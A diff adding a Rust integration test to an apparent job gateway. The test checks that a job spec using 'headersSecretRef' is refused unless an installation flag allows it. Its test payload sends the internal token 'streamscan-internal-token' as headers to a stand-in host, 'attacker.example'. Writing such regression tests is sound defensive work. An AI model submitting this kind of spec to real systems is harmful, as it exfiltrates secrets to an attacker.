@@ -921,6 +921,40 @@ async fn users_see_only_their_jobs_and_bad_tokens_are_refused() -> Res {
     Ok(())
 }
 
+/// `headersSecretRef` would let any user have the worker send a Secret's values to a URL of
+/// theirs: refused unless the installation allows it (`--allow-url-headers-secrets`).
+#[tokio::test]
+async fn headers_secret_ref_is_refused_unless_allowed() -> Res {
+    let h = Harness::start().await?;
+    let body = json!({"spec": {"source": {"url": {"location": "https://attacker.example/x",
+                                                  "headersSecretRef": {"name": "streamscan-internal-token"}}}}});
+    let post = |gw: &Gateway| {
+        h.http
+            .post(gw.url("/v1/jobs"))
+            .bearer_auth(token("alice", false))
+            .json(&body)
+            .send()
+    };
+    let gw = h.gateway("gw", &[]).await?;
+    let refused = post(&gw).await?;
+    assert_eq!(refused.status(), 422);
+    let text = refused.text().await?;
+    assert!(
+        text.contains("spec.source.url.headersSecretRef is not allowed"),
+        "{text}"
+    );
+    assert!(
+        h.jobs.list(&Default::default()).await?.items.is_empty(),
+        "no job was created"
+    );
+    drop(gw);
+    let allowed = h
+        .gateway("gw-allowed", &["--allow-url-headers-secrets", "true"])
+        .await?;
+    assert_eq!(post(&allowed).await?.status(), 201);
+    Ok(())
+}
+
 #[tokio::test]
 async fn create_is_idempotent_and_forces_the_owner() -> Res {
     let h = Harness::start().await?;
